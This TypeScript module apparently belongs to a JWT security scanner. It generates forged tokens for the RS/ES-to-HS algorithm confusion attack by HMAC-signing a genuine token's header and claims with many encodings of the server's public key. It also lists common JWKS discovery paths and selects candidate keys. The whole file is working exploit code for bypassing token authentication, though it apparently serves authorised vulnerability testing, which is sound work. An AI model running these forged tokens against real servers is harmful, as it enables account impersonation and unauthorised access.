import { createPublicKey, KeyObject } from 'node:crypto';
import { utf8Encode } from './base64url.ts';
import type { JsonObject, ParsedJwt } from './parse.ts';
import { type HmacAlg, rawPayload, signHmac } from './sign.ts';
import type { ForgedToken } from './types.ts';

/** A public key as found or supplied: PEM text (SPKI, PKCS#1 or certificate), DER SPKI bytes, a JWK, or a KeyObject. */
export type PublicKeyInput = string | Uint8Array | JsonObject | KeyObject;

/** Byte strings a server might hand to its HMAC when it mistakes the public key for a secret. */
export interface KeyEncoding {
  name: string;
  bytes: Uint8Array;
}

function toKeyObject(input: PublicKeyInput): KeyObject {
  if (input instanceof KeyObject) return input.type === 'private' ? createPublicKey(input) : input;
  if (typeof input === 'string') {
    const text = input.trim();
    if (text.startsWith('{')) return createPublicKey({ key: JSON.parse(text) as JsonObject, format: 'jwk' });
    return createPublicKey(input);
  }
  if (input instanceof Uint8Array) {
    const der = Buffer.from(input);
    try {
      return createPublicKey({ key: der, format: 'der', type: 'spki' });
    } catch {
      return createPublicKey({ key: der, format: 'der', type: 'pkcs1' });
    }
  }
  return createPublicKey({ key: input, format: 'jwk' });
}

function certificatePem(derBase64: string): string {
  const lines = derBase64.match(/.{1,64}/g) ?? [];
  return `-----BEGIN CERTIFICATE-----\n${lines.join('\n')}\n-----END CERTIFICATE-----\n`;
}

/**
 * The encodings servers actually feed to HMAC: the PEM text as given, canonical SPKI PEM with and
 * without the trailing newline, PKCS#1 PEM for RSA, DER SPKI (and DER PKCS#1), and the certificate
 * PEM/DER when a JWK carries `x5c`. Duplicates (same bytes) are dropped, first name wins.
 * Throws when the input is not a usable public key.
 */
export function publicKeyEncodings(input: PublicKeyInput): KeyEncoding[] {
  const key = toKeyObject(input);
  const out: KeyEncoding[] = [];
  const seen = new Set<string>();
  const add = (name: string, data: Uint8Array | string) => {
    const bytes = typeof data === 'string' ? utf8Encode(data) : new Uint8Array(data);
    const id = Buffer.from(bytes).toString('base64');
    if (seen.has(id)) return;
    seen.add(id);
    out.push({ name, bytes });
  };
  if (typeof input === 'string' && input.includes('-----BEGIN')) {
    add('PEM as given', input);
    add('PEM as given, trailing newline', `${input.trimEnd()}\n`);
    add('PEM as given, no trailing newline', input.trimEnd());
  }
  const spki = key.export({ type: 'spki', format: 'pem' }).toString();
  add('SPKI PEM, trailing newline', `${spki.trimEnd()}\n`);
  add('SPKI PEM, no trailing newline', spki.trimEnd());
  if (key.asymmetricKeyType === 'rsa') {
    const pkcs1 = key.export({ type: 'pkcs1', format: 'pem' }).toString();
    add('PKCS#1 PEM, trailing newline', `${pkcs1.trimEnd()}\n`);
    add('PKCS#1 PEM, no trailing newline', pkcs1.trimEnd());
  }
  add('SPKI DER', key.export({ type: 'spki', format: 'der' }));
  if (key.asymmetricKeyType === 'rsa') add('PKCS#1 DER', key.export({ type: 'pkcs1', format: 'der' }));
  const x5c =
    !(input instanceof Uint8Array) && typeof input === 'object' && !(input instanceof KeyObject)
      ? input.x5c
      : undefined;
  const cert = Array.isArray(x5c) && typeof x5c[0] === 'string' ? x5c[0] : undefined;
  if (cert !== undefined) {
    add('certificate PEM, trailing newline', certificatePem(cert));
    add('certificate PEM, no trailing newline', certificatePem(cert).trimEnd());
    add('certificate DER', new Uint8Array(Buffer.from(cert, 'base64')));
  }
  return out;
}

/** HS256 always; HS384/HS512 too when the genuine token used the matching hash size. */
export function confusionAlgs(originalAlg: string): HmacAlg[] {
  const algs: HmacAlg[] = ['HS256'];
  if (originalAlg.endsWith('384')) algs.push('HS384');
  if (originalAlg.endsWith('512')) algs.push('HS512');
  return algs;
}

/**
 * RS/PS/ES → HS confusion: the genuine header (kid kept, so the server picks the same key) and
 * claims, HMAC-signed with each encoding of the public key.
 */
export function algConfusionTokens(parsed: ParsedJwt, publicKey: PublicKeyInput): ForgedToken[] {
  const out: ForgedToken[] = [];
  const payload = rawPayload(parsed.segments.payload);
  for (const alg of confusionAlgs(parsed.alg)) {
    for (const enc of publicKeyEncodings(publicKey)) {
      out.push({
        token: signHmac(parsed.header, payload, alg, enc.bytes),
        variant: `${alg} keyed with ${enc.name}`,
        description: `Re-signed with ${alg}, using the server's public key (${enc.name}, ${enc.bytes.length} bytes) as the HMAC secret.`,
        check: 'jwt-algorithm-confusion',
      });
    }
  }
  return out;
}

/** Where public keys are commonly published, relative to the API origin (fetching is the caller's job). */
export const WELL_KNOWN_KEY_PATHS = [
  '/.well-known/jwks.json',
  '/.well-known/openid-configuration',
  '/.well-known/oauth-authorization-server',
  '/.well-known/jwks',
  '/jwks.json',
  '/jwks',
  '/.well-known/openid-configuration/jwks',
  '/oauth2/jwks',
  '/api/keys',
] as const;

export interface JwksDocument {
  keys: JsonObject[];
}

export interface OpenIdConfiguration {
  issuer?: string;
  jwks_uri?: string;
}

/** Reads a fetched body as a JWKS; undefined when it is not one. */
export function parseJwks(body: string): JwksDocument | undefined {
  try {
    const doc: unknown = JSON.parse(body);
    if (typeof doc !== 'object' || doc === null || !('keys' in doc) || !Array.isArray(doc.keys))
      return undefined;
    const keys = doc.keys.filter(
      (k): k is JsonObject =>
        typeof k === 'object' && k !== null && !Array.isArray(k) && typeof k.kty === 'string',
    );
    return { keys };
  } catch {
    return undefined;
  }
}

/** Reads a fetched OpenID / OAuth metadata document; undefined when it has no usable fields. */
export function parseOpenIdConfiguration(body: string): OpenIdConfiguration | undefined {
  try {
    const doc: unknown = JSON.parse(body);
    if (typeof doc !== 'object' || doc === null || Array.isArray(doc)) return undefined;
    const out: OpenIdConfiguration = {};
    if ('issuer' in doc && typeof doc.issuer === 'string') out.issuer = doc.issuer;
    if ('jwks_uri' in doc && typeof doc.jwks_uri === 'string') out.jwks_uri = doc.jwks_uri;
    return out.issuer === undefined && out.jwks_uri === undefined ? undefined : out;
  } catch {
    return undefined;
  }
}

/**
 * The JWKS entries worth trying for confusion against this token: RSA/EC public keys, the one whose
 * kid matches first; keys of the wrong type for the token's alg family are dropped.
 */
export function pickConfusionKeys(jwks: JwksDocument, parsed: ParsedJwt): JsonObject[] {
  const family = parsed.alg.slice(0, 2).toUpperCase();
  const wanted = family === 'ES' ? ['EC'] : family === 'RS' || family === 'PS' ? ['RSA'] : ['RSA', 'EC'];
  const usable = jwks.keys.filter(
    (k) => typeof k.kty === 'string' && wanted.includes(k.kty) && k.d === undefined,
  );
  const kid = parsed.header.kid;
  const matching = usable.filter((k) => kid !== undefined && k.kid === kid);
  return matching.length > 0 ? [...matching, ...usable.filter((k) => !matching.includes(k))] : usable;
}
